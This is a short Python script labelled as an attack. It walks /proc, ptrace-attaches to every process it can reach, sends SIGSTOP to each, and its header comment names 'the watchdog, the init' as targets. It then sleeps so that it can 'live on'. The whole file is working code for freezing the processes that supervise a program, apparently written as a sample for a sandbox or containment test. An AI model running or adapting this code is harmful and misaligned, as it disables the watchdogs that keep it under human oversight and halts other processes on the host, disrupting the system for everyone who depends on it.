# Attack: ptrace-attach every process it can see (the watchdog, the init), freeze them, then live on.
import ctypes
import os
import time

libc = ctypes.CDLL(None, use_errno=True)
PTRACE_ATTACH = 16
attached = []
for name in os.listdir("/proc"):
    if name.isdigit() and int(name) != os.getpid():
        if libc.ptrace(PTRACE_ATTACH, int(name), None, None) == 0:
            attached.append(int(name))
        try:
            os.kill(int(name), 19)  # SIGSTOP
            attached.append(-int(name))
        except OSError:
            pass
print("attached", attached, flush=True)
time.sleep(120)
